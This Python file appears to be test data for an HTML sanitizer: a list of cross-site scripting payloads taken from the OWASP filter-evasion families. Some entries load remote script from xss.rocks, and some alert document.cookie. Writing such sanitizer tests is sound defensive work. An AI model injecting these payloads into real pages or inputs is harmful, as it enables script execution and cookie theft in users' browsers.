"""XSS payloads: the OWASP XSS Filter Evasion Cheat Sheet's families and more.

Script tags and their malformed spellings, event handlers, javascript: /
vbscript: / data: URLs in every URL attribute (plain, mixed case, entity- and
whitespace-encoded), CSS expression() / url(javascript:) / behavior /
-moz-binding / @import, SVG and MathML tricks, mutation-XSS shapes that
change meaning when re-parsed, frames, forms, objects, embeds, meta refresh,
base href, and payloads aimed at our own `{{variable}}` handling.
"""

XSS_PAYLOADS = [
    # Script tags and malformed spellings
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)</script",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "\\\";alert('XSS');//",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    # Image URLs
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114"
    "&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61"
    "&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img srcset="javascript:alert(1) 1x">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    # Event handlers
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099'
    '&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101">',
    "<BODY ONLOAD=alert('XSS')>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<body onpageshow=alert(1)>",
    "<svg/onload=alert('XSS')>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div id=x tabindex=1 onfocus=alert(1)></div>",
    '<a href="https://ok.example" target=_blank onclick=alert(1)>ok</a>',
    '<img src="cid:logo" onload=alert(1)>',
    '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
    # Link URLs
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="jav&Tab;ascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#106avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="java{{x}}script:alert(1)">x</a>',
    '<a href="{{x}}:alert(1)">x</a>',
    '<a href="{{link}}" onclick="alert(1)">x</a>',
    # Tables and backgrounds
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    '<table background="javascript:alert(1)"><tr><td background="vbscript:x">x'
    "</td></tr></table>",
    # CSS
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE>"
    "<UL><LI>XSS</br>",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<div style=\"width: expression(alert('XSS'));\">",
    "<div style=\"background-image: url(javascript:alert('XSS'))\">",
    "<div style=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    "<div style=\"background:url('javascript:alert(1)')\">",
    '<div style="background:u\\rl(javascript:alert(1))">',
    '<div style="width:\\65 xpression(alert(1))">',
    '<div style="color:red;behavior:url(#default#time2)">x</div>',
    '<div style="-moz-binding:url(http://x.example/x.xml#x)">x</div>',
    "<div style=\"font-family:'x';background:url(javascript:alert(1))\">x</div>",
    "<p style=\"background-image: url('data:image/svg+xml;base64,PHN2Zz4=')\">x</p>",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076"
    "\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072"
    "\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<style><!--</style><script>alert(1)//--></script>",
    # Frames, objects, embeds, forms
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH" '
    'type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<isindex action="javascript:alert(1)" type=image>',
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<audio src=x onerror=alert(1)>",
    # Meta, base, link
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<BR SIZE=\"&{alert('XSS')}\">",
    # SVG and MathML
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)" />',
    '<svg><script href="data:,alert(1)" />',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<math><maction actiontype="statusline#http://google.com" '
    'xlink:href="javascript:alert(2)">CLICKME</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # Mutation XSS and parser confusion
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<comment><img src="</comment><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<? foo="><script>alert(1)</script>">',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<a href="https://ok.example/" title="&quot;><script>alert(1)</script>">ok</a>',
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
]
